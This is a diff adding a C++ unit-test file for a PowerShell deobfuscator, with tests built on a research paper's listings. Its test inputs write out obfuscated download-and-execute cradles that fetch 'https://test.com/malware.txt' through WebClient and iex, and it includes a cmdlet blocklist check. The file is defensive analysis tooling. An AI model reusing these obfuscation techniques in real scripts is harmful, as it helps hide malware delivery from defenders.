@@ -1,0 +1,456 @@
+// End-to-end tests for the Invoke-Deobfuscation core, driven by the
+// paper's own examples (Listings 1-4, the Fig 7/8 case study) plus each
+// phase in isolation.
+
+#include <gtest/gtest.h>
+
+#include "core/blocklist.h"
+#include "core/deobfuscator.h"
+#include "core/reformat.h"
+#include "psast/parser.h"
+#include "psinterp/aes.h"
+#include "psinterp/deflate.h"
+#include "psinterp/encodings.h"
+
+namespace ideobf {
+namespace {
+
+std::string deobf(std::string_view script) {
+  InvokeDeobfuscator d;
+  return d.deobfuscate(script);
+}
+
+bool contains(std::string_view haystack, std::string_view needle) {
+  return haystack.find(needle) != std::string_view::npos;
+}
+
+// ------------------------------------------------------------- token pass
+
+TEST(TokenPass, RemovesTicks) {
+  TokenPassStats st;
+  const std::string out = token_pass("nE`w-oBjE`Ct nET.wE`bcLiEnT", &st);
+  EXPECT_EQ(out, "New-Object net.webclient");
+  EXPECT_GE(st.ticks_removed, 1);
+}
+
+TEST(TokenPass, ExpandsAliases) {
+  TokenPassStats st;
+  EXPECT_EQ(token_pass("IeX 'x'", &st), "Invoke-Expression 'x'");
+  EXPECT_GE(st.aliases_expanded, 1);
+  EXPECT_EQ(token_pass("gci C:\\", nullptr), "Get-ChildItem C:\\");
+}
+
+TEST(TokenPass, NormalizesRandomCase) {
+  EXPECT_EQ(token_pass("WrItE-hOsT hello", nullptr), "Write-Host hello");
+  EXPECT_EQ(token_pass("fOrEAch-ObJECt { $_ }", nullptr),
+            "ForEach-Object { $_ }");
+}
+
+TEST(TokenPass, LeavesStringsAlone) {
+  const char* src = "Write-Host 'IeX `tick` CaSe'";
+  EXPECT_EQ(token_pass(src, nullptr), src);
+}
+
+TEST(TokenPass, NormalizesNamedOperators) {
+  EXPECT_EQ(token_pass("'a' -SPLit 'b'", nullptr), "'a' -split 'b'");
+  EXPECT_EQ(token_pass("'a,b' -jOiN ','", nullptr), "'a,b' -join ','");
+}
+
+TEST(TokenPass, PreservesInvalidInput) {
+  const char* bad = "'unterminated";
+  EXPECT_EQ(token_pass(bad, nullptr), bad);
+}
+
+TEST(TokenPass, Listing2) {
+  // Paper Listing 2 -> Listing 1 at the token level.
+  const std::string out = token_pass(
+      "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://test.com/"
+      "malware.txt')",
+      nullptr);
+  EXPECT_EQ(out,
+            "(New-Object net.webclient).downloadstring('https://test.com/"
+            "malware.txt')");
+}
+
+// --------------------------------------------------------------- recovery
+
+TEST(Recovery, ConcatIsRecovered) {
+  RecoveryOptions opts;
+  RecoveryStats st;
+  EXPECT_EQ(recovery_pass("'he' + 'llo'", opts, &st), "'hello'");
+  EXPECT_EQ(st.pieces_recovered, 1);
+}
+
+TEST(Recovery, ReorderIsRecovered) {
+  RecoveryOptions opts;
+  const std::string out =
+      recovery_pass("\"{2}{0}{1}\" -f 'ost h','ello','write-h'", opts, nullptr);
+  EXPECT_EQ(out, "'write-host hello'");
+}
+
+TEST(Recovery, VariableTracing) {
+  RecoveryOptions opts;
+  RecoveryStats st;
+  const std::string out =
+      recovery_pass("$a = 'mal'; $b = 'ware'; Write-Host ($a + $b)", opts, &st);
+  EXPECT_TRUE(contains(out, "'malware'"));
+  EXPECT_GE(st.variables_traced, 2);
+  EXPECT_GE(st.variables_substituted, 2);
+}
+
+TEST(Recovery, VariableInLoopIsNotTraced) {
+  // Section V-C: loop-assigned variables are abandoned.
+  RecoveryOptions opts;
+  const std::string src =
+      "$x = ''\nforeach ($c in 1..3) { $x += 'a' }\nWrite-Host $x";
+  const std::string out = recovery_pass(src, opts, nullptr);
+  EXPECT_TRUE(contains(out, "Write-Host $x"));
+}
+
+TEST(Recovery, VariableInConditionalIsNotTraced) {
+  RecoveryOptions opts;
+  const std::string src = "if ($true) { $y = 'b' }\nWrite-Host $y";
+  const std::string out = recovery_pass(src, opts, nullptr);
+  EXPECT_TRUE(contains(out, "Write-Host $y"));
+}
+
+TEST(Recovery, EnvironmentVariableRecovered) {
+  RecoveryOptions opts;
+  const std::string out =
+      recovery_pass("& ($env:ComSpec[4,24,25] -join '')", opts, nullptr);
+  EXPECT_TRUE(contains(out, "'iex'")) << out;
+}
+
+TEST(Recovery, PsHomeTrick) {
+  RecoveryOptions opts;
+  const std::string out =
+      recovery_pass(".($pshome[4]+$pshome[30]+'x') 'write-host hi'", opts, nullptr);
+  EXPECT_TRUE(contains(out, "'iex'")) << out;
+}
+
+TEST(Recovery, BlocklistedPieceIsKept) {
+  RecoveryOptions opts;
+  const std::string src =
+      "(New-Object Net.WebClient).downloadstring('https://test.com/m.txt')";
+  EXPECT_EQ(recovery_pass(src, opts, nullptr), src);
+}
+
+TEST(Recovery, UnknownVariablePieceIsKept) {
+  RecoveryOptions opts;
+  const std::string src = "Write-Host ($unknown + 'x')";
+  EXPECT_EQ(recovery_pass(src, opts, nullptr), src);
+}
+
+TEST(Recovery, ObjectResultIsKept) {
+  RecoveryOptions opts;
+  const std::string src = "New-Object Net.WebClient";
+  EXPECT_EQ(recovery_pass(src, opts, nullptr), src);
+}
+
+TEST(Recovery, Base64Recovered) {
+  RecoveryOptions opts;
+  // "hi" UTF-16LE: aABpAA==
+  const std::string out = recovery_pass(
+      "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))",
+      opts, nullptr);
+  EXPECT_EQ(out, "'hi'");
+}
+
+TEST(Recovery, InvalidInputUnchanged) {
+  RecoveryOptions opts;
+  EXPECT_EQ(recovery_pass("if (", opts, nullptr), "if (");
+}
+
+TEST(ValueToLiteral, Forms) {
+  EXPECT_EQ(value_to_literal(ps::Value("abc")), "'abc'");
+  EXPECT_EQ(value_to_literal(ps::Value("it's")), "'it''s'");
+  EXPECT_EQ(value_to_literal(ps::Value(42)), "42");
+  EXPECT_EQ(value_to_literal(ps::Value(2.5)), "2.5");
+  EXPECT_EQ(value_to_literal(ps::Value(true)), "");   // no faithful literal
+  EXPECT_EQ(value_to_literal(ps::Value()), "");
+}
+
+// --------------------------------------------------------------- blocklist
+
+TEST(Blocklist, KnownEntries) {
+  EXPECT_TRUE(is_blocklisted("restart-computer"));
+  EXPECT_TRUE(is_blocklisted("start-sleep"));
+  EXPECT_TRUE(is_blocklisted("invoke-webrequest"));
+  EXPECT_FALSE(is_blocklisted("foreach-object"));
+  EXPECT_FALSE(is_blocklisted("invoke-expression"));
+}
+
+TEST(Blocklist, ExtraEntries) {
+  auto filter = make_recovery_filter({"write-host"});
+  EXPECT_FALSE(filter("write-host"));
+  EXPECT_TRUE(filter("write-output"));
+}
+
+// -------------------------------------------------------------- multilayer
+
+TEST(Multilayer, UnwrapsIexLiteral) {
+  const std::string out = deobf("iex 'Write-Host hello'");
+  EXPECT_TRUE(contains(out, "Write-Host hello"));
+  EXPECT_FALSE(contains(out, "iex"));
+}
+
+TEST(Multilayer, UnwrapsPipedIex) {
+  const std::string out = deobf("'Write-Host hello' | IeX");
+  EXPECT_TRUE(contains(out, "Write-Host hello"));
+  EXPECT_FALSE(contains(out, "Invoke-Expression"));
+}
+
+TEST(Multilayer, UnwrapsEncodedCommand) {
+  const std::string inner = "Write-Host hello";
+  const std::string b64 =
+      ps::base64_encode(ps::encoding_get_bytes(ps::TextEncoding::Unicode, inner));
+  const std::string out = deobf("powershell -eNc " + b64);
+  EXPECT_TRUE(contains(out, "Write-Host hello"));
+  EXPECT_FALSE(contains(out, b64));
+}
+
+TEST(Multilayer, TwoLayers) {
+  // Layer 1: concat; layer 2: iex of the recovered string.
+  const std::string out = deobf("iex ('Write-Host' + ' hello')");
+  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
+}
+
+TEST(Multilayer, ThreeLayersViaEncoding) {
+  const std::string l0 = "Write-Host hello";
+  const std::string l1 = "iex '" + l0 + "'";
+  const std::string b64 =
+      ps::base64_encode(ps::encoding_get_bytes(ps::TextEncoding::Unicode, l1));
+  const std::string l2 = "powershell -EncodedCommand " + b64;
+  const std::string out = deobf(l2);
+  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
+  EXPECT_FALSE(contains(out, "iex"));
+}
+
+TEST(Multilayer, ObfuscatedIexNameViaPshome) {
+  const std::string out = deobf(".($pshome[4]+$pshome[30]+'x') 'Write-Host hi'");
+  EXPECT_TRUE(contains(out, "Write-Host hi")) << out;
+}
+
+// ------------------------------------------------------------------ rename
+
+TEST(Rename, RandomNamesAreRenamed) {
+  RenameStats st;
+  const std::string out =
+      rename_pass("$xdjmd = 1; $lsffs = 2; Write-Host $xdjmd $lsffs", &st);
+  EXPECT_TRUE(st.renamed);
+  EXPECT_TRUE(contains(out, "$var0 = 1"));
+  EXPECT_TRUE(contains(out, "$var1 = 2"));
+  EXPECT_TRUE(contains(out, "Write-Host $var0 $var1"));
+}
+
+TEST(Rename, EnglishNamesAreKept) {
+  RenameStats st;
+  const std::string src = "$downloader = 1; Write-Host $downloader";
+  EXPECT_EQ(rename_pass(src, &st), src);
+  EXPECT_FALSE(st.renamed);
+}
+
+TEST(Rename, FunctionsAreRenamed) {
+  RenameStats st;
+  const std::string out =
+      rename_pass("function zxqwv { 'x' }; zxqwv", &st);
+  EXPECT_TRUE(st.renamed);
+  EXPECT_TRUE(contains(out, "function func0"));
+  EXPECT_TRUE(contains(out, "func0"));
+}
+
+TEST(Rename, AutomaticVariablesUntouched) {
+  const std::string src = "$zzxqw = 1; 1..2 | % { $_ }; Write-Host $env:TEMP";
+  const std::string out = rename_pass(src, nullptr);
+  EXPECT_TRUE(contains(out, "$_"));
+  EXPECT_TRUE(contains(out, "$env:TEMP"));
+}
+
+TEST(Rename, ExpandableStringReferences) {
+  const std::string out =
+      rename_pass("$qzxwj = 'ok'; Write-Host \"value: $qzxwj\"", nullptr);
+  EXPECT_TRUE(contains(out, "\"value: $var0\"")) << out;
+}
+
+// ---------------------------------------------------------------- reformat
+
+TEST(Reformat, CollapsesRandomWhitespace) {
+  EXPECT_EQ(reformat_pass("Write-Host      hello    world"),
+            "Write-Host hello world\n");
+}
+
+TEST(Reformat, IndentsBlocks) {
+  const std::string out = reformat_pass("if ($a) { Write-Host hi }");
+  EXPECT_TRUE(contains(out, "if ($a) {\n    Write-Host hi\n}")) << out;
+}
+
+TEST(Reformat, PreservesMethodAdjacency) {
+  const std::string src = "('ab').Replace('a','b')";
+  const std::string out = reformat_pass(src);
+  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
+  EXPECT_TRUE(contains(out, ".Replace('a','b')"));
+}
+
+TEST(Reformat, SemicolonsBecomeNewlines) {
+  const std::string out = reformat_pass("$a = 1; $b = 2");
+  EXPECT_TRUE(contains(out, "$a = 1\n$b = 2")) << out;
+}
+
+TEST(Reformat, OutputAlwaysReparses) {
+  const char* samples[] = {
+      "for ($i = 0; $i -lt 3; $i++) { $i }",
+      "1,2 | % { $_ * 2 } | ? { $_ -gt 2 }",
+      "function f($a) { if ($a) { 'y' } else { 'n' } }",
+      "$h = @{ a = 1; b = 2 }; $h['a']",
+  };
+  for (const char* s : samples) {
+    EXPECT_TRUE(ps::is_valid_syntax(reformat_pass(s))) << s;
+  }
+}
+
+// ------------------------------------------------------------- end to end
+
+TEST(Deobfuscator, Listing2EndToEnd) {
+  const std::string out = deobf(
+      "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://test.com/"
+      "malware.txt')");
+  EXPECT_TRUE(contains(out, "New-Object net.webclient")) << out;
+  EXPECT_TRUE(contains(out, "https://test.com/malware.txt"));
+  EXPECT_FALSE(contains(out, "`"));
+}
+
+TEST(Deobfuscator, Listing3EndToEnd) {
+  const char* src =
+      "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}"
+      "{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
+      "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes',"
+      "'ient).dow').RepLACe('jYU',[STRiNg][CHar]39))";
+  const std::string out = deobf(src);
+  EXPECT_TRUE(contains(out, "https://test.com/malware.txt")) << out;
+  EXPECT_TRUE(contains(out, "New-Object")) << out;
+  EXPECT_FALSE(contains(out, "-f "));
+}
+
+TEST(Deobfuscator, Listing4EndToEnd) {
+  // Build a Listing-4-style payload: per-char bxor with 0x4B, multi-char
+  // delimiters, invoked via the $env:ComSpec trick.
+  const std::string plain =
+      "(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')";
+  std::string nums;
+  const char* delims = "~@d}i,";
+  for (std::size_t i = 0; i < plain.size(); ++i) {
+    if (i) nums += delims[i % 6];
+    nums += std::to_string(static_cast<unsigned char>(plain[i]) ^ 0x4B);
+  }
+  const std::string src =
+      "( '" + nums +
+      "' -SPLIT '~' -SPLit 'd' -SPliT '}' -SPLiT 'i' -SpliT ',' -SPLit '@' | "
+      "fOrEAch-ObJECt { [cHAR]($_ -BxoR '0x4B') }) -jOiN '' | & ( "
+      "$Env:coMSpEC[4,24,25] -JOiN '')";
+  const std::string out = deobf(src);
+  EXPECT_TRUE(contains(out, "https://test.com/malware.txt")) << out;
+}
+
+TEST(Deobfuscator, Fig7CaseStudy) {
+  // The paper's running case: L1 + L2 + L3 in one script.
+  const std::string b64a = "aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG";
+  const std::string b64b = "8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA=";
+  const std::string src =
+      "i`E`x (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
+      "$xdjmd = '" + b64a + "'\n"
+      "$lsffs = '" + b64b + "'\n"
+      "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String("
+      "$xdjmd + $lsffs))\n"
+      ".($psHoME[4]+$PShOME[30]+'x') (NeW-oBJeCt "
+      "Net.WebClient).downloadstring($sdfs)";
+  const std::string out = deobf(src);
+  // Fig 7(d): recovered command, traced URL, renamed variables.
+  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
+  EXPECT_TRUE(contains(out, "https://test.com/malware.txt")) << out;
+  EXPECT_TRUE(contains(out, "$var0")) << out;
+  EXPECT_TRUE(contains(out, "downloadstring")) << out;
+  // The download pipeline itself is blocklisted, not executed.
+  EXPECT_TRUE(contains(out, "New-Object"));
+}
+
+TEST(Deobfuscator, OutputIsAlwaysValidSyntax) {
+  const char* samples[] = {
+      "iex ('a'+'b')",
+      "$a = 'x'; Write-Host $a",
+      "if ($true) { 'y' }",
+      "'Write-Host hi' | iex",
+      "broken 'input",  // invalid: must come back unchanged
+  };
+  for (const char* s : samples) {
+    const std::string out = deobf(s);
+    if (ps::is_valid_syntax(s)) {
+      EXPECT_TRUE(ps::is_valid_syntax(out)) << s << " -> " << out;
+    } else {
+      EXPECT_EQ(out, s);
+    }
+  }
+}
+
+TEST(Deobfuscator, Idempotent) {
+  const char* samples[] = {
+      "iex ('Write-Host'+' hi')",
+      "$xdjmd = 'aAB0'; Write-Host $xdjmd",
+      "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://t.co/m.txt')",
+  };
+  InvokeDeobfuscator d;
+  for (const char* s : samples) {
+    const std::string once = d.deobfuscate(s);
+    const std::string twice = d.deobfuscate(once);
+    EXPECT_EQ(once, twice) << s;
+  }
+}
+
+TEST(Deobfuscator, ReportCounts) {
+  InvokeDeobfuscator d;
+  DeobfuscationReport report;
+  d.deobfuscate("IeX ('Write-Host'+' hi')", report);
+  EXPECT_GE(report.token.aliases_expanded, 1);
+  EXPECT_GE(report.recovery.pieces_recovered + report.multilayer.layers_unwrapped,
+            1);
+}
+
+TEST(Deobfuscator, SecureStringEndToEnd) {
+  ps::ByteVec key(16);
+  for (int i = 0; i < 16; ++i) key[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(i + 1);
+  ps::ByteVec iv(16, 3);
+  const std::string blob =
+      ps::securestring::protect("Write-Host hello", key, iv);
+  const std::string src =
+      "$ss = ConvertTo-SecureString '" + blob + "' -Key (1..16)\n"
+      "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto("
+      "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($ss)))";
+  const std::string out = deobf(src);
+  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
+}
+
+TEST(Deobfuscator, DeflateEndToEnd) {
+  const std::string payload = "Write-Host hello";
+  const ps::ByteVec data(payload.begin(), payload.end());
+  const std::string b64 = ps::base64_encode(ps::deflate_compress(data));
+  const std::string src =
+      "iex ((New-Object IO.StreamReader((New-Object "
+      "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
+      "FromBase64String('" + b64 + "'), "
+      "[IO.Compression.CompressionMode]::Decompress)), "
+      "[Text.Encoding]::ASCII)).ReadToEnd())";
+  const std::string out = deobf(src);
+  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
+}
+
+TEST(Deobfuscator, PhasesCanBeDisabled) {
+  DeobfuscationOptions opts;
+  opts.rename = false;
+  opts.reformat = false;
+  InvokeDeobfuscator d(opts);
+  const std::string out = d.deobfuscate("$zzxqw = 'a'+'b'");
+  EXPECT_TRUE(contains(out, "$zzxqw")) << out;  // no renaming
+  EXPECT_TRUE(contains(out, "'ab'"));           // recovery still on
+}
+
+}  // namespace
+}  // namespace ideobf
